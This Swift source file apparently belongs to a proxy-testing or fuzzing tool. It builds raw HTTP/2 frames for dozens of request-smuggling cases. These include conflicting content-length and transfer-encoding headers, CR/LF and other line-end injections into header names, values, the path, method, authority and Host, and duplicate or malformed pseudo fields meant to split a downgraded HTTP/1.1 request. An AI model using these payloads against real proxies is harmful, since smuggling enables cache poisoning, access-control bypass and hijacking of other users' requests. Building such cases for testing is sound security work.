/// The bytes of an HTTP/2 connection that sends one request (RFC 9113), good or bad: nothing is checked.
struct HTTP2Attack: Sendable {
    let name: String
    let bytes: [UInt8]

    /// A request of these fields and this body, with the pseudo fields that it does not give itself.
    init(_ name: String, _ fields: [(String, String)], body: String = "") {
        var all = [(":method", "POST"), (":scheme", "http"), (":authority", "h"), (":path", "/a")]
        all.removeAll { pseudo in fields.contains { $0.0 == pseudo.0 } }
        // Pseudo fields come first, whoever they are from (section 8.3).
        let block = (fields.filter { $0.0.hasPrefix(":") } + all + fields.filter { !$0.0.hasPrefix(":") })
            .flatMap { Self.literal($0.0) + Self.literal($0.1, isName: false) }
        let hasBody = !body.isEmpty
        self.name = name
        bytes =
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".bytes + Self.frame(type: 4, flags: 0, stream: 0, [])
            // END_HEADERS, and END_STREAM when there is no body.
            + Self.frame(type: 1, flags: hasBody ? 4 : 5, stream: 1, block)
            + (hasBody ? Self.frame(type: 0, flags: 1, stream: 1, body.bytes) : [])
    }

    private static func frame(type: UInt8, flags: UInt8, stream: UInt8, _ payload: [UInt8]) -> [UInt8] {
        let length = payload.count
        return [UInt8(length >> 16), UInt8(length >> 8 & 0xFF), UInt8(length & 0xFF), type, flags, 0, 0, 0, stream]
            + payload
    }

    /// A field's name or value as a literal, not indexed and without Huffman coding (RFC 7541 section 6.2.2).
    private static func literal(_ text: String, isName: Bool = true) -> [UInt8] {
        (isName ? [0] : []) + integer(text.utf8.count) + text.bytes
    }

    /// An integer with a prefix of seven bits (RFC 7541 section 5.1).
    private static func integer(_ number: Int) -> [UInt8] {
        if number < 127 { return [UInt8(number)] }
        var rest = number - 127
        var bytes: [UInt8] = [127]
        while rest >= 128 {
            bytes.append(UInt8(rest & 127 | 128))
            rest >>= 7
        }
        return bytes + [UInt8(rest)]
    }

    /// A request that is as it should be.
    static func plain(path: String) -> HTTP2Attack {
        HTTP2Attack("plain", [(":path", path), ("content-length", "5")], body: "hello")
    }
}

// MARK: What becomes of it in HTTP/1.1

extension HTTP2Attack {
    /// Lengths, codings and line ends that mean nothing in HTTP/2 and everything in the HTTP/1.1 that a proxy makes of it.
    static var all: [HTTP2Attack] { framings + injections + pseudoFields }

    private static var framings: [HTTP2Attack] {
        let inner = SmugglingTrick.inner
        let chunks = "0\r\n\r\n\(inner)"
        let lengths = [
            "0", "1", "4", "\(inner.utf8.count)", "\(inner.utf8.count + 1)", "+0", "0, 0", "", "x",
            "18446744073709551616",
        ]
        let codings = [
            "chunked", "Chunked", " chunked", "chunked, identity", "xchunked", "identity", "\u{b}chunked", "trailers",
        ]
        return lengths.map { HTTP2Attack("H2.CL \($0)", [("content-length", $0)], body: inner) }
            + lengths.map {
                HTTP2Attack("H2.CL by GET \($0)", [(":method", "GET"), ("content-length", $0)], body: inner)
            }
            + codings.map { HTTP2Attack("H2.TE \($0)", [("transfer-encoding", $0)], body: chunks) }
            + codings.map { coding in
                HTTP2Attack(
                    "H2.TE \(coding) and a length", [("transfer-encoding", coding), ("content-length", "0")],
                    body: chunks)
            }
            + ["Content-Length", "content_length", "content-length ", " content-length"].map {
                HTTP2Attack("\($0) 0", [($0, "0")], body: inner)
            }
            + ["Transfer-Encoding", "transfer_encoding", "transfer-encoding ", "transfer-encoding:"].map {
                HTTP2Attack("\($0) chunked", [($0, "chunked")], body: chunks)
            }
            + [
                HTTP2Attack(
                    "two lengths", [("content-length", "\(inner.utf8.count)"), ("content-length", "0")], body: inner),
                HTTP2Attack("no length", [], body: inner), HTTP2Attack("no body", [("content-length", "35")]),
                HTTP2Attack("connection names the length", [("connection", "content-length")], body: inner),
                HTTP2Attack("an upgrade", [("connection", "upgrade"), ("upgrade", "h2c")], body: inner),
                HTTP2Attack("an expectation", [("expect", "100-continue")], body: inner),
            ]
    }

    /// Ends of lines, colons and spaces where a name or value becomes part of an HTTP/1.1 head.
    private static var injections: [HTTP2Attack] {
        let ends = ["\r\n", "\n", "\r", "\u{0}", "\r\n ", "\u{b}", "\u{85}", "\u{2028}", " ", ":"]
        let request = "\(SmugglingTrick.inner)"
        return ends.flatMap { end in
            [
                HTTP2Attack(
                    "\(end.debugDescription) in a value", [("x", "y\(end)transfer-encoding: chunked")],
                    body: "0\r\n\r\n\(request)"),
                HTTP2Attack("\(end.debugDescription) twice in a value", [("x", "y\(end)\(end)\(request)")]),
                HTTP2Attack(
                    "\(end.debugDescription) in a name", [("x: y\(end)transfer-encoding", "chunked")],
                    body: "0\r\n\r\n\(request)"),
                HTTP2Attack("\(end.debugDescription) twice in a name", [("x: y\(end)\(end)\(request)x", "y")]),
                HTTP2Attack(
                    "\(end.debugDescription) in the path", [(":path", "/a HTTP/1.1\(end)Host: h\(end)\(end)\(request)")]
                ),
                HTTP2Attack(
                    "\(end.debugDescription) in the method",
                    [(":method", "GET /a HTTP/1.1\(end)Host: h\(end)\(end)\(request)GET")]),
                HTTP2Attack("\(end.debugDescription) in the authority", [(":authority", "h\(end)\(end)\(request)")]),
                HTTP2Attack(
                    "\(end.debugDescription) in the scheme",
                    [(":scheme", "http://h/ HTTP/1.1\(end)Host: h\(end)\(end)\(request)")]),
                HTTP2Attack("\(end.debugDescription) in Host", [("host", "h\(end)\(end)\(request)")]),
                HTTP2Attack(
                    "\(end.debugDescription) in X-Forwarded-For",
                    [("x-forwarded-for", "127.0.0.1\(end)\(end)\(request)")]),
                HTTP2Attack("\(end.debugDescription) in the tag", [("x-front", "1\(end)\(end)\(request)")]),
            ]
        }
    }

    private static var pseudoFields: [HTTP2Attack] {
        [
            HTTP2Attack("two paths", [(":path", "/a"), (":path", "/smuggled")]),
            HTTP2Attack("two methods", [(":method", "GET"), (":method", "POST")]),
            HTTP2Attack("an absolute path", [(":path", "http://other/smuggled")]),
            HTTP2Attack("an empty path", [(":path", "")]),
            HTTP2Attack("an asterisk", [(":path", "*")]), HTTP2Attack("a path without a slash", [(":path", "a")]),
            HTTP2Attack("a path with a space", [(":path", "/a HTTP/1.1")]),
            HTTP2Attack("a query of a path", [(":path", "/a?b HTTP/1.0")]),
            HTTP2Attack("an unknown pseudo field", [(":smuggled", "1")]), HTTP2Attack("a status", [(":status", "200")]),
            HTTP2Attack("another Host", [("host", "other")]), HTTP2Attack("two Hosts", [("host", "a"), ("host", "b")]),
            HTTP2Attack("CONNECT", [(":method", "CONNECT"), (":authority", "h:80")]),
            HTTP2Attack("PRI", [(":method", "PRI")]),
            HTTP2Attack("a pseudo field last", [("x", "y"), (":path", "/smuggled")]),
        ]
    }
}
